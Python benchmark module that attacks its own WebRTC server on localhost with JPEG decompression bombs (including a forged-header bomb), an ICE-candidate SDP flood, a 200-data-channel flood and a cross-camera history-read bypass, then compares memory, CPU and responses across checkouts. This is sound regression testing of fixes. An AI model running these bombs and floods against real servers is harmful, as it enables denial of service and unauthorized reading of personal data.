"""Attacks on the server, measured from outside: the server of a checkout runs as its own
process and is attacked as a client would, so an older checkout gives a before/after figure.

`python -m komi_rtc.bench.attack [--attack bomb sdp-flood channels history] [--repo DIR]`
(default: every attack, on this checkout; `--repo` is repeatable):

- `bomb` (issue 11): huge JPEGs over `/ws/camera` at once; the peak RSS of the server and its
  pose workers, sampled every 20 ms, and whether it still answers. Two bombs: the issue's
  own (a real 20000x20000 grey JPEG, 6 MB) and a forged one (a 16x16 JPEG whose header
  claims 20000x20000, 1 kB: the cheapest way to ask for 1.2 GB).
- `sdp-flood` (issue 22): a real aiortc camera offer with thousands of extra loopback ICE
  candidates, posted with a camera pairing token while /healthz is asked back to back and
  a camera streams: the offer's answer and time, the slowest /healthz meanwhile, and
  whether the streaming camera dropped.
- `channels` (issue 22): one monitor connection opening 200 `komi` data channels on a
  streaming camera: results received over them in 10 s, the server's CPU and RSS, and the
  monitors /stats still lists once the monitor has left.
- `history` (issue 22): the link of one camera ties that camera, over its channel, to the
  person another camera was tied to by the admin, and reads that person's history.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import functools
import json
import logging
import os
import secrets
import shlex
import signal
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import cv2
import numpy as np
import psutil
from aiortc import MediaStreamTrack, RTCPeerConnection, RTCSessionDescription, VideoStreamTrack

from ..camera.peer import CameraPeer, CapturedTrack
from ..media.aiortc_adapter import close_peer_connection
from ..media.video_sources import open_source
from ..protocol import DATA_CHANNEL_LABEL
from .server_process import free_port, wait_ready

ATTACKS = ("bomb", "sdp-flood", "channels", "history")
CAMERA_SIZE = (320, 240)  # the attack's own cameras: the demo person, small, to spare the CPU
CAMERA_FPS = 10.0
HTTP_TIMEOUT_S = 120.0  # longer than any stall measured (the old server: 31 s)
STREAMING_TIMEOUT_S = 60.0  # a camera's first result, reconnection included


# ---------------------------------------------------------------- the server under attack


@dataclass
class AttackedServer:
    url: str
    admin_token: str
    process: subprocess.Popen[bytes]

    def rss(self) -> int:
        """Bytes resident in the server and its pose workers now."""
        return PeakRss(self.process.pid).now()

    def cpu_seconds(self) -> float:
        """CPU seconds the server and its pose workers have used (user and system)."""
        total = 0.0
        for member in _members(psutil.Process(self.process.pid)):
            try:
                times = member.cpu_times()
            except psutil.Error:
                continue
            total += times.user + times.system
        return total


@contextlib.contextmanager
def serve(repo: Path) -> Iterator[AttackedServer]:
    """The server of the checkout in `repo` (one pose worker) on a free port, with a fresh
    state dir (history, revocations), stopped with Ctrl-C's signal on leaving."""
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    token = secrets.token_urlsafe(24)
    env = dict(os.environ, KOMI_ADMIN_TOKEN=token, PYTHONUNBUFFERED="1", GLOG_minloglevel="2")
    env["PYTHONPATH"] = str(repo)
    with tempfile.TemporaryDirectory(prefix="komi-attack-") as scratch:
        command = [sys.executable, "-m", "komi_rtc.server", "--host", "127.0.0.1"]
        command += ["--port", str(port), "--workers", "1", "--state-dir", scratch]
        log_path = Path(scratch) / "server.log"
        with open(log_path, "wb") as log:
            process = subprocess.Popen(command, cwd=repo, env=env, stdout=log, stderr=log)
        try:
            try:
                wait_ready(url + "/", process)
            except RuntimeError as exc:
                tail = log_path.read_text(errors="replace")[-2000:]
                raise RuntimeError(f"{exc}; its log ends:\n{tail}") from None
            yield AttackedServer(url, token, process)
        finally:
            process.send_signal(signal.SIGINT)
            try:
                process.wait(20)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()


def _members(process: psutil.Process) -> list[psutil.Process]:
    try:
        return [process, *process.children(recursive=True)]
    except psutil.Error:
        return []


class PeakRss:
    """Samples the RSS of a process and its children in a thread until stopped."""

    def __init__(self, pid: int, interval: float = 0.02) -> None:
        self._process = psutil.Process(pid)
        self._interval = interval
        self.peak = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def now(self) -> int:
        total = 0
        for member in _members(self._process):
            try:
                total += member.memory_info().rss
            except psutil.Error:
                continue
        return total

    def _run(self) -> None:
        while not self._stop.is_set():
            self.peak = max(self.peak, self.now())
            self._stop.wait(self._interval)

    def __enter__(self) -> PeakRss:
        self._thread.start()
        return self

    def __exit__(self, *_: Any) -> None:
        self._stop.set()
        self._thread.join()


def _mb(rss: int) -> int:
    return round(rss / 2**20)


class _CpuWindow:
    """The server's CPU over a stretch of time, in % of one core."""

    def __init__(self, server: AttackedServer) -> None:
        self._server = server
        self._cpu = server.cpu_seconds()
        self._started = time.monotonic()

    def percent(self) -> float:
        elapsed = time.monotonic() - self._started
        used = self._server.cpu_seconds() - self._cpu
        return round(100.0 * used / elapsed, 1) if elapsed > 0 else 0.0


# ---------------------------------------------------------------- clients


async def _call(
    http: aiohttp.ClientSession, method: str, url: str, token: str, body: Any = None
) -> tuple[int, Any]:
    """Status and body (JSON when it is JSON, else text) of one request with `token`."""
    headers = {"Authorization": f"Bearer {token}"}
    async with http.request(method, url, json=body, headers=headers) as response:
        text = await response.text()
    try:
        return response.status, json.loads(text)
    except ValueError:
        return response.status, text


async def _mint(http: aiohttp.ClientSession, server: AttackedServer, claims: dict[str, Any]) -> str:
    status, body = await _call(http, "POST", f"{server.url}/tokens", server.admin_token, claims)
    if status != 200:
        raise RuntimeError(f"POST /tokens {claims} answered {status}: {body}")
    return str(body["token"])


def _error_of(body: Any) -> str | None:
    return str(body.get("error")) if isinstance(body, dict) and "error" in body else None


class _WatchedCamera(CameraPeer):
    """The real camera peer, streaming the demo person: counts its connections (a second
    one means the first dropped: it hears nothing for 4 s, or the server closed it)."""

    def __init__(self, server: AttackedServer, camera_id: str) -> None:
        source = open_source("demo", *CAMERA_SIZE, CAMERA_FPS)
        super().__init__(server.url, camera_id, source, CAMERA_FPS, token=server.admin_token)
        self.connections = 0

    async def connect_once(self, server: str | None = None) -> None:
        self.connections += 1
        await super().connect_once(server)

    async def streaming(self) -> None:
        """Until a new result arrives; RuntimeError after STREAMING_TIMEOUT_S."""
        seen = self.status.results
        deadline = time.monotonic() + STREAMING_TIMEOUT_S
        while self.status.results == seen:
            if time.monotonic() > deadline:
                raise RuntimeError(f"{self.camera_id}: no result ({self.status.problem})")
            await asyncio.sleep(0.1)  # polling the results, deadline above

    def longest_gap(self, start: float, end: float) -> float:
        """The longest time without a result between `start` and `end` (monotonic s)."""
        times = sorted(self.status.analysed_times)
        before = [t for t in times if t < start]
        inside = [t for t in times if start <= t <= end]
        marks = [before[-1] if before else start, *inside, end]
        return round(max(b - a for a, b in zip(marks, marks[1:], strict=False)), 2)


class _ChannelCamera:
    """A camera peer whose `komi` channel the attack writes on (the demo person, small)."""

    def __init__(self, server: AttackedServer, camera_id: str, token: str) -> None:
        self._url = server.url
        self.camera_id = camera_id
        self._token = token
        self._source = open_source("demo", *CAMERA_SIZE, CAMERA_FPS)
        self._track = CapturedTrack(self._source, CAMERA_FPS)
        self._pc = RTCPeerConnection()
        self.channel = self._pc.createDataChannel(DATA_CHANNEL_LABEL)
        self.messages: asyncio.Queue[dict[str, Any]] = asyncio.Queue()
        self.channel.on("message", self._on_message)

    def _on_message(self, raw: str | bytes) -> None:
        with contextlib.suppress(ValueError):
            message = json.loads(raw)
            if isinstance(message, dict):
                self.messages.put_nowait(message)

    async def connect(self, http: aiohttp.ClientSession) -> None:
        """Offer, answer, and the channel open; RuntimeError when refused."""
        opened = asyncio.Event()
        self.channel.on("open", opened.set)
        self._pc.addTrack(self._track)
        await self._pc.setLocalDescription(await self._pc.createOffer())
        offer = {"sdp": self._pc.localDescription.sdp, "type": "offer", "role": "camera"}
        offer["camera_id"] = self.camera_id
        status, answer = await _call(http, "POST", f"{self._url}/offer", self._token, offer)
        if status != 200:
            raise RuntimeError(f"{self.camera_id}: offer answered {status}: {answer}")
        await self._pc.setRemoteDescription(RTCSessionDescription(answer["sdp"], answer["type"]))
        await asyncio.wait_for(opened.wait(), 20)

    async def reply(self, kinds: tuple[str, ...], timeout: float) -> dict[str, Any] | None:
        """The first message of one of `kinds` within `timeout` s, else None."""
        deadline = time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0:
            try:
                message = await asyncio.wait_for(self.messages.get(), left)
            except asyncio.TimeoutError:
                return None
            if message.get("type") in kinds:
                return message
        return None

    async def close(self) -> None:
        await close_peer_connection(self._pc)
        self._track.stop()
        self._source.close()


# ---------------------------------------------------------------- image bomb (issue 11)


def real_bomb(side: int = 20000) -> bytes:
    grey = np.full((side, side), 128, np.uint8)
    return cv2.imencode(".jpg", grey, [cv2.IMWRITE_JPEG_QUALITY, 10])[1].tobytes()


def forged_bomb(side: int = 20000) -> bytes:
    data = bytearray(cv2.imencode(".jpg", np.full((16, 16, 3), 128, np.uint8))[1].tobytes())
    i = 2
    while data[i + 1] not in (0xC0, 0xC1, 0xC2):
        i += 2 + ((data[i + 2] << 8) | data[i + 3])
    data[i + 5 : i + 9] = bytes([side >> 8, side & 255, side >> 8, side & 255])
    return bytes(data)


async def _send_bomb(url: str, token: str, jpeg: bytes, index: int) -> str:
    """What the server did: answered an error, closed the socket, analysed, or nothing."""
    payload = json.dumps(
        {"type": "frame", "timestamp": 1.0, "image_data": base64.b64encode(jpeg).decode()}
    )
    headers = {"Authorization": f"Bearer {token}"}
    try:
        async with aiohttp.ClientSession(headers=headers) as http:
            async with http.ws_connect(
                f"{url}/ws/camera?camera_id=bomb_{index}", max_msg_size=0
            ) as ws:
                try:
                    await ws.send_str(payload)
                except ConnectionError:  # the server read the size and hung up mid-message
                    return "socket closed while sending"
                deadline = time.monotonic() + 30
                while time.monotonic() < deadline:
                    message = await ws.receive(timeout=30)
                    if message.type != aiohttp.WSMsgType.TEXT:
                        return f"socket closed ({ws.close_code})"
                    kind = json.loads(message.data).get("type")
                    if kind in ("error", "frame_processed"):
                        return kind
                return "no answer"
    except (aiohttp.ClientError, asyncio.TimeoutError, ConnectionError) as exc:
        return f"connection failed: {type(exc).__name__}"


async def _bombard(url: str, token: str, jpeg: bytes, bombs: int) -> list[str]:
    return list(await asyncio.gather(*(_send_bomb(url, token, jpeg, i) for i in range(bombs))))


def run_bomb(repo: Path, bombs: int, jpeg: bytes, label: str) -> dict[str, Any]:
    with serve(repo) as server:
        sampler = PeakRss(server.process.pid)
        baseline = sampler.now()
        started = time.monotonic()
        with sampler:
            outcomes = asyncio.run(_bombard(server.url, server.admin_token, jpeg, bombs))
        elapsed = time.monotonic() - started
        alive = server.process.poll() is None
        answers = False
        if alive:
            request = urllib.request.Request(
                server.url + "/", headers={"Accept": "application/json"}
            )
            try:
                with urllib.request.urlopen(request, timeout=10) as response:
                    answers = response.status == 200
            except OSError:
                answers = False
    return {
        "server": label,
        "bombs": bombs,
        "bomb_bytes": len(jpeg),
        "baseline_rss_mb": _mb(baseline),
        "peak_rss_mb": _mb(sampler.peak),
        "seconds": round(elapsed, 1),
        "outcomes": sorted(set(outcomes)),
        "server_alive": alive,
        "still_answers": answers,
    }


def bomb_rows(servers: dict[Path, str], bombs: list[int]) -> list[dict[str, Any]]:
    print("making the bombs ...", flush=True)
    kinds = {"real 20000x20000 JPEG": real_bomb(), "forged header 20000x20000": forged_bomb()}
    rows = []
    print(
        "| server | bomb | bytes | at once | RSS before MB | peak RSS MB | outcome | "
        "alive and answering |\n|---|---|---|---|---|---|---|---|",
        flush=True,
    )
    for repo, label in servers.items():
        for kind, jpeg in kinds.items():
            for count in bombs:
                row = run_bomb(repo, count, jpeg, label) | {"bomb": kind}
                rows.append(row)
                print(
                    f"| {label} | {kind} | {row['bomb_bytes']:,} | {count} | "
                    f"{row['baseline_rss_mb']} | {row['peak_rss_mb']} | "
                    f"{', '.join(row['outcomes'])} | "
                    f"{'yes' if row['still_answers'] else 'NO'} |",
                    flush=True,
                )
    return rows


# ---------------------------------------------------------------- SDP candidate flood


async def camera_offer_sdp() -> str:
    """A real aiortc camera offer: a video track and the `komi` channel, its candidates."""
    pc = RTCPeerConnection()
    track = VideoStreamTrack()
    pc.addTrack(track)
    pc.createDataChannel(DATA_CHANNEL_LABEL)
    await pc.setLocalDescription(await pc.createOffer())
    sdp = str(pc.localDescription.sdp)
    await close_peer_connection(pc)
    track.stop()
    return sdp


def flooded(sdp: str, count: int, first_port: int = 20_000) -> str:
    """`sdp` with `count` more ICE candidates in its first media section (before its
    a=end-of-candidates), all 127.0.0.1, one port each (aioice drops a candidate whose
    address and port it already has)."""
    lines = sdp.split("\r\n")
    starts = [i for i, line in enumerate(lines) if line.startswith("m=")]
    end = starts[1] if len(starts) > 1 else len(lines) - 1
    where = next((i for i in range(starts[0], end) if lines[i] == "a=end-of-candidates"), end)
    extra = [
        f"a=candidate:flood{i} 1 udp 2130706431 127.0.0.1 {first_port + i} typ host"
        for i in range(count)
    ]
    return "\r\n".join(lines[:where] + extra + lines[where:])


async def _ask_health(url: str, stop: asyncio.Event) -> list[float]:
    """GET /healthz back to back until `stop`: each answer's time in seconds (a failed
    request counts as infinitely slow)."""
    durations: list[float] = []
    timeout = aiohttp.ClientTimeout(total=HTTP_TIMEOUT_S)
    async with aiohttp.ClientSession(timeout=timeout) as http:
        while not stop.is_set():
            started = time.monotonic()
            try:
                async with http.get(f"{url}/healthz") as response:
                    await response.read()
                    ok = response.status == 200
            except (aiohttp.ClientError, asyncio.TimeoutError):
                ok = False
            durations.append(time.monotonic() - started if ok else float("inf"))
    return durations


async def _sdp_flood(server: AttackedServer, counts: list[int]) -> list[dict[str, Any]]:
    rows = []
    sdp = await camera_offer_sdp()
    timeout = aiohttp.ClientTimeout(total=HTTP_TIMEOUT_S)
    camera = _WatchedCamera(server, "streaming_camera")
    streaming = asyncio.create_task(camera.run(), name="streaming camera")
    try:
        async with aiohttp.ClientSession(timeout=timeout) as http:
            pairing = await _mint(http, server, {"role": "camera"})
            for count in counts:
                await camera.streaming()
                connections = camera.connections
                offer = {"sdp": flooded(sdp, count), "type": "offer", "role": "camera"}
                offer["camera_id"] = f"flood_{count}"
                stop = asyncio.Event()
                health = asyncio.create_task(_ask_health(server.url, stop), name="healthz")
                await asyncio.sleep(0.5)  # pacing: /healthz answering before the offer
                started = time.monotonic()
                status, answer = await _call(http, "POST", f"{server.url}/offer", pairing, offer)
                offer_s = time.monotonic() - started
                await asyncio.sleep(2.0)  # pacing: a camera dropped meanwhile has noticed
                stop.set()
                durations = await health
                rows.append(
                    {
                        "candidates": count,
                        "sdp_kb": round(len(offer["sdp"]) / 1024),
                        "offer_status": status,
                        "offer_error": _error_of(answer),
                        "offer_s": round(offer_s, 3),
                        "healthz_requests": len(durations),
                        "healthz_slowest_s": round(max(durations), 3),
                        "healthz_failed": sum(d == float("inf") for d in durations),
                        "camera_dropped": camera.connections > connections,
                        "camera_longest_gap_s": camera.longest_gap(started, time.monotonic()),
                    }
                )
    finally:
        streaming.cancel()
        await asyncio.gather(streaming, return_exceptions=True)
        await camera.close()
    return rows


# ---------------------------------------------------------------- data channel flood


class _FloodingMonitor:
    """One monitor connection opening `channels` `komi` data channels: what each received
    and which the server closed."""

    def __init__(self, channels: int) -> None:
        self.results = [0] * channels  # frame_processed messages, per channel
        self.opened: set[int] = set()
        self.closed: set[int] = set()
        self.errors: set[str] = set()
        self._first_open = asyncio.Event()
        self._readers: list[asyncio.Task[None]] = []
        self._pc = RTCPeerConnection()
        self._pc.addTransceiver("video", direction="recvonly")
        for index in range(channels):
            channel = self._pc.createDataChannel(DATA_CHANNEL_LABEL)
            channel.on("message", functools.partial(self._on_message, index))
            channel.on("open", functools.partial(self._on_open, index))
            channel.on("close", functools.partial(self.closed.add, index))
        self._pc.on("track", self._on_track)

    def _on_message(self, index: int, raw: str | bytes) -> None:
        with contextlib.suppress(ValueError, AttributeError):
            message = json.loads(raw)
            if message.get("type") == "frame_processed":
                self.results[index] += 1
            elif message.get("type") == "error":
                self.errors.add(str(message.get("error")))

    def _on_open(self, index: int) -> None:
        self.opened.add(index)
        self._first_open.set()

    def _on_track(self, track: MediaStreamTrack) -> None:
        async def read() -> None:  # the relayed video, read and dropped
            with contextlib.suppress(Exception):
                while True:
                    await track.recv()

        self._readers.append(asyncio.create_task(read(), name="monitor video"))

    async def connect(
        self, http: aiohttp.ClientSession, server: AttackedServer, token: str, camera_id: str
    ) -> None:
        """Offer, answer, and a first channel open; RuntimeError when refused."""
        pc = self._pc
        await pc.setLocalDescription(await pc.createOffer())
        offer = {"sdp": pc.localDescription.sdp, "type": "offer", "role": "monitor"}
        offer["camera_id"] = camera_id
        status, answer = await _call(http, "POST", f"{server.url}/offer", token, offer)
        if status != 200:
            raise RuntimeError(f"the monitor's offer answered {status}: {answer}")
        await pc.setRemoteDescription(RTCSessionDescription(answer["sdp"], answer["type"]))
        await asyncio.wait_for(self._first_open.wait(), 20)

    async def close(self) -> None:
        for reader in self._readers:
            reader.cancel()
        await asyncio.gather(*self._readers, return_exceptions=True)
        await close_peer_connection(self._pc)


async def _monitors_listed(
    http: aiohttp.ClientSession, server: AttackedServer, camera_id: str
) -> Any:
    """What /stats says of the camera's monitors (its sinks) now."""
    status, stats = await _call(http, "GET", f"{server.url}/stats", server.admin_token)
    return stats["cameras"].get(camera_id, {}).get("monitors") if status == 200 else None


async def _channel_flood(server: AttackedServer, channels: int, seconds: float) -> dict[str, Any]:
    camera = _WatchedCamera(server, "watched_camera")
    streaming = asyncio.create_task(camera.run(), name="watched camera")
    monitor = _FloodingMonitor(channels)
    try:
        async with aiohttp.ClientSession() as http:
            monitor_token = await _mint(http, server, {"role": "monitor"})
            await camera.streaming()
            idle = _CpuWindow(server)
            await asyncio.sleep(3.0)  # measuring: the server with the camera alone
            cpu_before, rss_before = idle.percent(), server.rss()

            await monitor.connect(http, server, monitor_token, camera.camera_id)
            await asyncio.sleep(1.0)  # pacing: the server has seen every channel
            counted, camera_counted, busy = (
                sum(monitor.results),
                camera.status.results,
                _CpuWindow(server),
            )
            await asyncio.sleep(seconds)  # measuring
            received, cpu_during, rss_during = (
                sum(monitor.results) - counted,
                busy.percent(),
                server.rss(),
            )
            camera_results = camera.status.results - camera_counted
            kept_open = len(monitor.opened - monitor.closed)

            await monitor.close()
            after = _CpuWindow(server)
            monitors, deadline = None, time.monotonic() + 5.0
            while time.monotonic() < deadline:  # what /stats lists 5 s after the monitor left
                monitors = await _monitors_listed(http, server, camera.camera_id)
                await asyncio.sleep(0.5)  # polling /stats, deadline above
            cpu_after, rss_after = after.percent(), server.rss()
    finally:
        await monitor.close()
        streaming.cancel()
        await asyncio.gather(streaming, return_exceptions=True)
        await camera.close()
    return {
        "channels": channels,
        "channels_opened": len(monitor.opened),
        "channels_kept_open": kept_open,
        "channels_with_results": sum(1 for count in monitor.results if count),
        "errors": sorted(monitor.errors),
        "seconds": seconds,
        "results": received,
        "camera_results": camera_results,  # the watched camera's own, on its channel
        "cpu_percent_before": cpu_before,
        "cpu_percent_during": cpu_during,
        "cpu_percent_after_close": cpu_after,
        "rss_mb_before": _mb(rss_before),
        "rss_mb_during": _mb(rss_during),
        "rss_mb_after_close": _mb(rss_after),
        "monitors_listed_after_close": monitors,
    }


# ---------------------------------------------------------------- history by camera link

HISTORY_READS = ("sets", "sets.csv", "recommendation")


async def _history_by_link(server: AttackedServer) -> dict[str, Any]:
    person = "p1"
    cameras: list[_ChannelCamera] = []
    try:
        async with aiohttp.ClientSession() as http:
            persons_camera = _ChannelCamera(server, "persons_camera", server.admin_token)
            cameras.append(persons_camera)
            await persons_camera.connect(http)
            persons_camera.channel.send(json.dumps({"type": "set_exercise", "exercise": "squat"}))
            tie, body = await _call(
                http,
                "POST",
                f"{server.url}/cameras/{persons_camera.camera_id}/person",
                server.admin_token,
                {"person": person},
            )
            if tie != 200:
                raise RuntimeError(f"the admin could not tie the camera to {person}: {body}")
            link = await _mint(http, server, {"role": "camera", "camera_id": "other_camera"})
            other = _ChannelCamera(server, "other_camera", link)
            cameras.append(other)
            await other.connect(http)
            other.channel.send(json.dumps({"type": "set_person", "person": person}))
            reply = await other.reply(("error", "person_set"), timeout=2.0)
            reads = {}
            for what in HISTORY_READS:
                url = f"{server.url}/people/{person}/{what}"
                status, answer = await _call(http, "GET", url, link)
                reads[what] = {"status": status, "error": _error_of(answer)}
                reads[what]["read"] = None if status != 200 else _what_was_read(what, answer)
    finally:
        for camera in cameras:
            await camera.close()
    return {
        "person": person,
        "admin_tie_status": tie,
        "set_person_reply": reply,
        "reads": reads,
    }


def _what_was_read(what: str, answer: Any) -> str:
    """A few words on a history answer: how many sets, rows or plan items it held."""
    if what == "sets" and isinstance(answer, dict):
        sets = answer.get("sets") or []
        exercises = sorted({str(s.get("exercise")) for s in sets if isinstance(s, dict)})
        return f"{len(sets)} set(s)" + (f" ({', '.join(exercises)})" if exercises else "")
    if what == "sets.csv" and isinstance(answer, str):
        return f"{max(0, len(answer.strip().splitlines()) - 1)} row(s)"
    if isinstance(answer, dict) and isinstance(answer.get("items"), list):
        return f"a plan of {len(answer['items'])} item(s)"
    return str(answer)[:80]


# ---------------------------------------------------------------- the command


def sdp_flood_rows(servers: dict[Path, str], counts: list[int]) -> list[dict[str, Any]]:
    print(
        "\n| server | extra candidates | SDP kB | offer answered | in s | slowest /healthz s "
        "| streaming camera dropped | its longest wait for a result s |\n"
        "|---|---|---|---|---|---|---|---|",
        flush=True,
    )
    rows = []
    for repo, label in servers.items():
        with serve(repo) as server:
            found = asyncio.run(_sdp_flood(server, counts))
        for row in found:
            rows.append({"server": label} | row)
            print(
                f"| {label} | {row['candidates']:,} | {row['sdp_kb']} | {row['offer_status']} "
                f"| {row['offer_s']:.2f} | {row['healthz_slowest_s']:.2f} | "
                f"{'yes' if row['camera_dropped'] else 'no'} | {row['camera_longest_gap_s']} |",
                flush=True,
            )
    return rows


def channel_rows(servers: dict[Path, str], channels: int, seconds: float) -> list[dict[str, Any]]:
    print(
        f"\n| server | channels opened / kept open | results on them in {seconds:g} s | "
        "the camera's own results | server CPU % before / during / after | "
        "RSS MB before / during / after | monitors listed after it left |\n"
        "|---|---|---|---|---|---|---|",
        flush=True,
    )
    rows = []
    for repo, label in servers.items():
        with serve(repo) as server:
            row = {"server": label} | asyncio.run(_channel_flood(server, channels, seconds))
        rows.append(row)
        print(
            f"| {label} | {row['channels_opened']} / {row['channels_kept_open']} | "
            f"{row['results']:,} | {row['camera_results']} | {row['cpu_percent_before']:.0f} / "
            f"{row['cpu_percent_during']:.0f} / {row['cpu_percent_after_close']:.0f} | "
            f"{row['rss_mb_before']} / {row['rss_mb_during']} / {row['rss_mb_after_close']} | "
            f"{row['monitors_listed_after_close']} |",
            flush=True,
        )
    return rows


def history_rows(servers: dict[Path, str]) -> list[dict[str, Any]]:
    print(
        "\n| server | `set_person p1` on the other camera's channel | "
        + " | ".join(f"GET /people/p1/{what}" for what in HISTORY_READS)
        + " |\n|---|---|"
        + "---|" * len(HISTORY_READS),
        flush=True,
    )
    rows = []
    for repo, label in servers.items():
        with serve(repo) as server:
            row = {"server": label} | asyncio.run(_history_by_link(server))
        rows.append(row)
        reply = row["set_person_reply"]
        said = "no answer" if reply is None else f"`{reply['type']}`: {reply.get('error', '')}"
        reads = " | ".join(
            f"{read['status']}: {read['error'] or read['read']}" for read in row["reads"].values()
        )
        print(f"| {label} | {said.rstrip(': ')} | {reads} |", flush=True)
    return rows


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m komi_rtc.bench.attack",
        description=__doc__,
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument(
        "--attack",
        nargs="+",
        choices=(*ATTACKS, "all"),
        default=["all"],
        help="which attacks (all)",
    )
    parser.add_argument("--bombs", type=int, nargs="+", default=[1, 3], help="at once (1 3)")
    parser.add_argument(
        "--candidates",
        type=int,
        nargs="+",
        default=[1000, 4000, 12000],
        help="sdp-flood: extra ICE candidates in one offer (1000 4000 12000)",
    )
    parser.add_argument(
        "--channels", type=int, default=200, help="channels: komi channels of the monitor (200)"
    )
    parser.add_argument(
        "--seconds", type=float, default=10.0, help="channels: results counted this long (10)"
    )
    parser.add_argument(
        "--repo",
        type=Path,
        action="append",
        default=[],
        help="checkout whose server to attack (repeatable; default: this one)",
    )
    parser.add_argument("--out", type=Path, default=None, help="write the figures as JSON here")
    args = parser.parse_args(argv)
    if any(n < 0 or n > 40_000 for n in args.candidates):
        parser.error("--candidates: 0 to 40000 (one loopback port each)")
    attacks = ATTACKS if "all" in args.attack else tuple(args.attack)
    repos = [repo.resolve() for repo in args.repo] or [Path(__file__).resolve().parents[2]]
    servers = {repo: _describe(repo) for repo in repos}  # one name a run, whatever commits
    # the attack's own peers: a camera reconnecting after a stall is a figure, not a warning
    logging.basicConfig(level=logging.ERROR)
    report: dict[str, Any] = {
        "command": shlex.join(["python", "-m", "komi_rtc.bench.attack", *(argv or sys.argv[1:])]),
        "machine": {"cores": os.cpu_count(), "load_average_at_start": os.getloadavg()},
        "servers": list(servers.values()),
    }
    if "bomb" in attacks:
        report["bomb"] = bomb_rows(servers, args.bombs)
    if "sdp-flood" in attacks:
        report["sdp-flood"] = sdp_flood_rows(servers, args.candidates)
    if "channels" in attacks:
        report["channels"] = channel_rows(servers, args.channels, args.seconds)
    if "history" in attacks:
        report["history"] = history_rows(servers)
    report["machine"]["load_average_at_end"] = os.getloadavg()
    if args.out:
        args.out.parent.mkdir(parents=True, exist_ok=True)
        args.out.write_text(json.dumps(report, indent=1) + "\n")
    return 0


def _describe(repo: Path) -> str:
    """`NAME@COMMIT`, with a `+` when the checkout has uncommitted changes."""
    try:
        commit = subprocess.run(
            ["git", "-C", str(repo), "rev-parse", "--short", "HEAD"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()
        changed = subprocess.run(
            ["git", "-C", str(repo), "status", "--porcelain", "--untracked-files=no"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()
    except (OSError, subprocess.CalledProcessError):
        commit, changed = "?", ""
    return f"{repo.name}@{commit}{'+' if changed else ''}"


if __name__ == "__main__":
    raise SystemExit(main())
